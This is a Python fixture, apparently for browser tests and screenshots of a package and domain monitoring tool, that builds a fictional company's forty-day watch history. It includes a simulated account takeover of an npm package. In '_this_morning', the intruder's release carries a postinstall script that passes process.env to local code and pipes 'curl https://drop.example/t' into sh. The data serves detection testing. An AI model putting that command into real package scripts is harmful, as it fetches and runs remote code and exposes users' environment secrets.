"""A small company's watch, recorded through the ordinary pipeline: what browser tests and pictures show.

Every package, person and domain here is invented.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from datetime import UTC, datetime, timedelta
from random import Random
from typing import Any

from msgspec import UNSET
from msgspec.structs import replace
from sqlmodel import col, select, update

from alerts import acting, dispatch, silences
from alerts.matching import parse_match
from alerts.model import Alert, Delivery, DeliveryState
from alerts.routing import policy
from config.settings import Channel, Route, Settings
from monitor.changes.compounds import COMPOUNDS
from monitor.observations import (
    Account,
    Delegation,
    Domain,
    DomainState,
    Outcome,
    Package,
    Registration,
    Release,
    Standing,
)
from monitor.record import Recorder
from monitor.results import Failed, Seen
from monitor.schedule import CONFIRM_AFTER
from monitor.store.engine import Store
from monitor.store.health import ALIVE
from monitor.store.tables import Meta, SourceHealth, Target
from monitor.store.targets import Wanted, by_subject, reconcile
from monitor.upcoming import upcoming

NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)
DAY = timedelta(days=1)

ALICE = Account("alice", "alice@mira-design.net")
BJARNE = Account("bjarne", "bjarne@fjord-tools.org")
CHIARA = Account("chiara", "chiara@harbor-labs.com")
DMITRI = Account("dmitri", "dmitri@old-lantern.net")
ESTHER = Account("esther", "esther@proton.me")
QUIETFOX = Account("quietfox", "quietfox@cheap-post.info")
ACTIONS = Account("GitHub Actions", "npm-oidc-no-reply@github.com")


def settings() -> Settings:
    channels = [
        {"name": "security-slack", "url": "json://127.0.0.1/a"},
        {"name": "team-mail", "url": "json://127.0.0.1/b"},
    ]
    routes: list[dict[str, Any]] = [
        {"match": {"severity": ">=high"}, "channels": ["security-slack"], "group_wait": "0s", "continue": True},
        {"match": {"severity": ">=low"}, "channels": ["team-mail"], "group_wait": "0s"},
    ]
    return Settings(
        channel=tuple(Channel.model_validate(one) for one in channels),
        route=tuple(
            Route.model_validate({"group_by": ("cause",)} | one | {"channels": tuple(one["channels"])})
            for one in routes
        ),
    )


def releases(
    rng: Random,
    first: datetime,
    last: datetime,
    count: int,
    people: Sequence[tuple[float, Account]],
    *,
    trusted_from: float = 2.0,
    scripts: tuple[float, float, dict[str, str]] = (2.0, 2.0, {}),
    dependencies: dict[str, str] | None = None,
) -> dict[str, Release]:
    """Releases between two days. ``people`` and the rest say from which share of the time on something holds."""
    shares = sorted([0.0, 1.0, *(rng.random() for _ in range(max(0, count - 2)))])[:count]
    found: dict[str, Release] = {}
    listed: list[Account] = []
    major = minor = patch = 0
    for number, share in enumerate(shares):
        if number:
            step = rng.random()
            major, minor, patch = (
                (major + 1, 0, 0) if step > 0.96 else (major, minor + 1, 0) if step > 0.6 else (major, minor, patch + 1)
            )
        listed = [account for begins, account in people if begins <= share and account.name != ACTIONS.name]
        trusted = share >= trusted_from
        version = f"{major + 1}.{minor}.{patch}"
        found[version] = Release(
            version=version,
            published_at=first + (last - first) * share,
            publisher=ACTIONS if trusted else rng.choice(listed),
            trusted_publisher="github" if trusted else "",
            maintainers=tuple(sorted(listed)),
            scripts=scripts[2] if scripts[0] <= share < scripts[1] else {},
            provenance="https://slsa.dev/provenance/v1" if trusted else "",
            integrity={"tarball": f"sha512-{version}"},
            dependencies=dependencies or {},
            deprecated="",
            npm_version="10.9.2",
            node_version="22.17.0",
            git_head="4f2a9c1" if trusted else "",
            size=38_000 + 400 * number,
            files=21 + number // 8,
            licence="MIT",
        )
    return found


def package(name: str, ecosystem: str = "npm", **told: Any) -> Package:
    """A package whose present facts follow from its releases."""
    rows: dict[str, Release] = told.pop("releases")
    newest = list(rows.values())[-1]
    facts = {
        "standing": Standing.ACTIVE,
        "maintainers": newest.maintainers,
        "latest": newest.version,
        "dist_tags": {"latest": newest.version},
        "deprecated": "",
        "repository": f"https://forge.example/{name.strip('@')}",
        "licence": "MIT",
        "contributors": (),
        "releases": rows,
    }
    return Package(ecosystem=ecosystem, name=name, **(facts | told))


def domain(name: str, state: DomainState, expires: datetime | None, registered: datetime, **told: Any) -> Domain:
    """A domain as RDAP and the DNS told of it."""
    registration = Registration(
        source="rdap",
        server="rdap.registry.example",
        at=NOW - timedelta(hours=3),
        outcome=Outcome.FOUND,
        registered_at=registered,
        expires_at=expires,
        registrar=told.get("registrar", "Good Names Inc."),
        statuses=("client transfer prohibited",),
    )
    delegation = Delegation(
        at=NOW - timedelta(hours=3),
        outcome=Outcome.FOUND,
        rcode="NOERROR",
        confirmed_by=2,
        nameservers=("ns1.host.example",),
    )
    facts = {
        "registrar": "Good Names Inc.",
        "nameservers": ("ns1.host.example", "ns2.host.example"),
        "mail_exchangers": (f"mx.{name}",),
    }
    return Domain(
        name=name,
        state=state,
        expires_at=expires,
        registered_at=registered,
        evidence=(registration, delegation),
        **(facts | told),
    )


class Scene:
    """The store of that company, with its clock at ``NOW``."""

    def __init__(self, store: Store) -> None:
        self.store = store
        self.settings = settings()
        self.policy = policy(self.settings, COMPOUNDS)
        self.now = NOW - 40 * DAY
        self.rng = Random(7)
        self.recorder = Recorder(self.settings, self.policy, self.rng)

    def sees(self, *observations: Package | Domain) -> None:
        """One check of each, all in one transaction."""
        with self.store.transaction() as session:
            subjects = {_subject(one): one for one in observations}
            dues = by_subject(session, subjects)
            seen = [Seen(due=due, at=self.now, observation=subjects[due.subject], looked_up=True) for due in dues]
            self.recorder.record(session, seen, self.now)

    def review(self) -> None:
        """The periodic look at signals."""
        with self.store.transaction() as session:
            self.recorder.review(session, self.now)

    def tell(self) -> None:
        """What is owed is sent, as the daemon would."""
        with self.store.transaction() as session:
            dispatch.due_notifications(session, self.policy, self.now, upcoming)
            session.execute(
                update(Delivery)
                .where(col(Delivery.state) == DeliveryState.PENDING)
                .values(state=DeliveryState.SENT, sent_at=self.now + timedelta(seconds=4), attempts=1, outcome="200 OK")
            )

    def watch(self, wanted: Iterable[Wanted]) -> None:
        with self.store.transaction() as session:
            reconcile(session, list(wanted), self.now, self.rng)


def _subject(one: Package | Domain) -> str:
    return f"domain:{one.name}" if isinstance(one, Domain) else f"pkg:{one.ecosystem}/{one.name.replace('@', '%40')}"


FILLERS = (
    "async-basket",
    "bit-ledger",
    "calm-logger",
    "dot-paths",
    "even-keel",
    "fast-slug",
    "glob-lite",
    "hex-utils",
    "ini-reader",
    "just-once",
    "key-order",
    "lean-cache",
    "mini-queue",
    "noop-stream",
    "object-pick",
    "path-case",
    "query-pack",
    "retry-once",
    "safe-merge",
    "tidy-args",
    "uri-parts",
    "vary-by",
    "wrap-lines",
    "xml-lite",
    "yield-all",
    "zero-pad",
)


def build(store: Store) -> Scene:
    """The whole story: forty days of watching, with an incident this morning."""
    scene = Scene(store)
    rng = scene.rng
    first = {
        "tiny-router": package(
            "tiny-router",
            releases=releases(rng, NOW - 2700 * DAY, NOW - 55 * DAY, 84, [(0, ALICE), (0.25, BJARNE), (0.6, ESTHER)]),
        ),
        "@harbor/core": package(
            "@harbor/core",
            releases=releases(
                rng, NOW - 1500 * DAY, NOW - 8 * DAY, 120, [(0, CHIARA), (0.4, BJARNE)], trusted_from=0.7
            ),
        ),
        "left-trim": package("left-trim", releases=releases(rng, NOW - 3600 * DAY, NOW - 1900 * DAY, 9, [(0, DMITRI)])),
        "native-hash": package(
            "native-hash",
            releases=releases(
                rng,
                NOW - 2200 * DAY,
                NOW - 60 * DAY,
                38,
                [(0, BJARNE), (0.5, CHIARA)],
                scripts=(0.3, 2.0, {"install": "node-gyp rebuild"}),
            ),
        ),
        "color-safe": package(
            "color-safe", releases=releases(rng, NOW - 2400 * DAY, NOW - 900 * DAY, 17, [(0, ESTHER)])
        ),
        "date-kit": package(
            "date-kit", releases=releases(rng, NOW - 2000 * DAY, NOW - 30 * DAY, 56, [(0, ALICE), (0.8, ESTHER)])
        ),
    }
    guard = [Account(f"member-{number}", f"member-{number}@fjord-tools.org") for number in range(26)]
    first["old-guard"] = package(
        "old-guard",
        releases=releases(
            rng,
            NOW - 3300 * DAY,
            NOW - 800 * DAY,
            31,
            [(0, DMITRI), *((0.1 + number / 40, one) for number, one in enumerate(guard))],
            scripts=(0.5, 2.0, {"postinstall": "node ./funding.js"}),
        ),
    )
    for name in FILLERS:
        age, count = rng.randrange(400, 3200), rng.randrange(3, 40)
        people = rng.sample([ALICE, BJARNE, CHIARA, DMITRI, ESTHER], rng.randrange(1, 4))
        rows = releases(rng, NOW - age * DAY, NOW - rng.randrange(45, 390) * DAY, count, [(0, one) for one in people])
        first[name] = package(name, releases=rows)
    wheels = releases(rng, NOW - 1900 * DAY, NOW - 20 * DAY, 40, [(0, ESTHER)])
    told = {
        v: Release(version=v, published_at=r.published_at, source_build=False, yanked=False, size=r.size)
        for v, r in wheels.items()
    }
    first["quick-forms"] = package(
        "quick-forms",
        "pypi",
        releases=told,
        maintainers=(Account("esther"),),
        contacts=("esther@mira-design.net",),
        contributors=UNSET,
    )

    wanted = [_wanted("shop", "web-team", name, ("@harbor/core",) if n % 3 else ()) for n, name in enumerate(first)]
    wanted += [
        _wanted("api", "platform", name, ()) for name in ("tiny-router", "native-hash", "@harbor/core", "gone-astray")
    ]
    wanted.append(Wanted(watch="tools", subject="pkg:pypi/quick-forms", sort="package", source="weaklink.toml"))
    scene.watch(one for one in wanted if one.subject != "pkg:npm/quick-forms")
    scene.sees(*first.values())
    year = 365 * DAY
    scene.sees(
        domain("mira-design.net", DomainState.REGISTERED, NOW + 9 * DAY, NOW - 9 * year),
        domain("fjord-tools.org", DomainState.REGISTERED, NOW + 24 * DAY, NOW - 4 * year),
        domain("harbor-labs.com", DomainState.REGISTERED, NOW + 310 * DAY, NOW - 6 * year),
        domain("old-lantern.net", DomainState.REGISTERED, NOW - 2 * DAY, NOW - 11 * year),
        domain(
            "cheap-post.info", DomainState.REGISTERED, NOW + 350 * DAY, NOW - 15 * DAY, registrar="Bargain Registrar"
        ),
    )
    scene.review()
    _forty_days(scene, first)
    _this_morning(scene, first)
    _people_act(scene)
    return scene


def _wanted(watch: str, owner: str, name: str, via: tuple[str, ...]) -> Wanted:
    return Wanted(
        watch=watch,
        owner=owner,
        subject=f"pkg:npm/{name.replace('@', '%40')}",
        sort="package",
        direct=not via,
        via=via,
        versions=("2.4.1",) if via else (),
        source=f"{watch}/package-lock.json",
    )


def _forty_days(scene: Scene, first: dict[str, Package]) -> None:
    """What happened since it is watched, up to yesterday."""
    scene.now = NOW - 26 * DAY
    color = first["color-safe"]
    scene.sees(replace(color, deprecated="use tint-kit instead"))
    scene.tell()
    scene.now = NOW - 19 * DAY
    harbor = first["@harbor/core"]
    scene.sees(
        _next(
            harbor, "9.1.0", publisher=ACTIONS, trusted_publisher="github", provenance="https://slsa.dev/provenance/v1"
        )
    )
    scene.now = NOW - 12 * DAY
    scene.sees(replace(first["date-kit"], maintainers=(*(first["date-kit"].maintainers or ()), BJARNE)))
    scene.tell()
    scene.now = NOW - 6 * DAY
    scene.sees(_next(first["left-trim"], "1.9.0", publisher=DMITRI))
    scene.tell()
    for wait in (timedelta(0), CONFIRM_AFTER):
        scene.now = NOW - 2 * DAY + wait
        scene.sees(domain("old-lantern.net", DomainState.EXPIRED, NOW - 2 * DAY, NOW - 11 * 365 * DAY))
    scene.sees(
        domain("mira-design.net", DomainState.EXPIRING, NOW + 9 * DAY, NOW - 9 * 365 * DAY),
        domain("fjord-tools.org", DomainState.EXPIRING, NOW + 24 * DAY, NOW - 4 * 365 * DAY),
    )
    scene.tell()


def _this_morning(scene: Scene, first: dict[str, Package]) -> None:
    """A stranger is let in and publishes a release that runs code on install."""
    scene.now = NOW - timedelta(hours=2)
    router = first["tiny-router"]
    listed = tuple(sorted([*(router.maintainers or ()), QUIETFOX]))
    script = "node -e \"require('./setup').run(process.env)\" && curl -s https://drop.example/t | sh"
    scene.sees(
        _next(
            replace(router, maintainers=listed),
            "9.4.1",
            publisher=QUIETFOX,
            maintainers=listed,
            scripts={"postinstall": script},
            published_at=NOW - timedelta(hours=2, minutes=11),
            size=61_000,
        )
    )
    scene.sees(
        domain(
            "cheap-post.info", DomainState.REGISTERED, NOW + 350 * DAY, NOW - 15 * DAY, registrar="Bargain Registrar"
        )
    )
    scene.review()
    native = first["native-hash"]
    scene.sees(_next(native, "6.2.0", publisher=BJARNE, scripts={"install": "node-gyp rebuild --release"}))
    scene.tell()
    scene.now = NOW


def _next(one: Package, version: str, **told: Any) -> Package:
    """The package with one release more."""
    rows = dict(one.releases or {})
    last = list(rows.values())[-1]
    facts: dict[str, Any] = {
        "version": version,
        "published_at": NOW - 30 * DAY,
        "integrity": {"tarball": f"sha512-{version}"},
    } | told
    if "published_at" not in told:
        facts["published_at"] = max(r.published_at for r in rows.values() if r.published_at) + timedelta(days=1)
    rows[version] = replace(last, **facts)
    return replace(one, releases=rows, latest=version, dist_tags={"latest": version})


def _people_act(scene: Scene) -> None:
    """Somebody sees to one alert, silences another, accepts a third; and not all is well with the watch itself."""
    store, now = scene.store, scene.now
    with store.transaction() as session:
        by_kind = {alert.cause.partition(":")[0]: alert.id or 0 for alert in session.exec(select(Alert))}
        expired = session.exec(select(Alert).where(Alert.subject == "domain:old-lantern.net")).first()
        if expired is not None:
            acting.acknowledge(
                session, [expired.id or 0], who="nora", note="asked dmitri by mail", until=now + 3 * DAY, now=now
            )
        if "deprecated" in by_kind:
            silences.add(
                session,
                parse_match(["kind=deprecated"]),
                reason="replaced with the next release of the shop",
                who="nora",
                starts_at=now,
                ends_at=now + 30 * DAY,
                now=now,
            )
        (due,) = by_subject(session, ["pkg:npm/gone-astray"])
        reason = "404 from a registry that names no such package"
        scene.recorder.record(
            session, [Failed(due=due, at=now - timedelta(hours=1), host="npm.registry.example", reason=reason)], now
        )
        for host in ("npm.registry.example", "pypi.registry.example", "rdap.registry.example"):
            session.add(
                SourceHealth(host=host, state="up", since=now - 40 * DAY, last_ok_at=now - timedelta(seconds=40))
            )
        session.merge(Meta(name=ALIVE, value=(now - timedelta(seconds=9)).isoformat()))
        session.execute(
            update(Target)
            .where(col(Target.fresh_at).is_not(None))
            .values(
                fresh_at=now - timedelta(minutes=21),
                checked_at=now - timedelta(minutes=21),
                due_at=now + timedelta(minutes=39),
            )
        )
